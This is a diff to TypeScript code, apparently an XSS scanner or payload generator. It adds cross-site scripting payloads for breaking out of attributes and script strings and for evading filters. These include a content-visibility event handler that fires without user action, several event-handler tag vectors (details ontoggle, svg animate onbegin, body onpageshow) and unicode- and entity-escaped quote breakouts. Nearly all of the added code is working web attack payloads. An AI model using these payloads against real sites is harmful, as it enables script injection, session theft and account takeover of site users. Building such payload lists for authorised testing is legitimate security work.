@@ -48,8 +48,10 @@ function payloads(context: ReflectionContext, token: string, code: string): stri
         'script-source': [`//${token}.example/`],
         srcdoc: elements.slice(0, 2),
       }[context.role];
+      // A hidden field takes no focus, but browsers with content-visibility fire this one without the user.
+      const onHidden = `${context.quote} oncontentvisibilityautostatechange=${code} style=content-visibility:auto x=${context.quote}`;
       const decodedTwice = encodeURIComponent(outOfTag[0] ?? '');
-      return [...special, ...outOfTag.slice(0, 1), newAttribute, ...outOfTag.slice(1), decodedTwice];
+      return [...special, ...outOfTag.slice(0, 1), newAttribute, onHidden, ...outOfTag.slice(1), decodedTwice];
     }
     case 'handler':
       return [
@@ -72,15 +74,17 @@ function throughFilters(code: string): string[] {
     `<a href="javascript:${code}">x</a><iframe src="javascript:${code}"></iframe>`,
     `<scr<script>ipt>${code}</scr</script>ipt>`,
     `<img src=x onerror=${code} `,
+    `<details open ontoggle=${code}><marquee onstart=${code}><video><source onerror=${code}></video><svg><animate onbegin=${code} attributeName=x dur=1s></svg><body onpageshow=${code}>`,
+    `\\u003cimg src=x onerror=${code}\\u003e`,
   ];
 }
 
 function outOfState(state: ScriptContext['state'], code: string): string[] {
   switch (state) {
     case 'single':
-      return [`'-${code}-'`, `\\'-${code}//`, `&#39;-${code}-&#39;`];
+      return [`'-${code}-'`, `\\'-${code}//`, `&#39;-${code}-&#39;`, `\\u0027-${code}-\\u0027`];
     case 'double':
-      return [`"-${code}-"`, `\\"-${code}//`];
+      return [`"-${code}-"`, `\\"-${code}//`, `&quot;-${code}-&quot;`, `\\u0022-${code}-\\u0022`];
     case 'template':
       return [`\${${code}}`, `\`-${code}-\``];
     case 'line-comment':
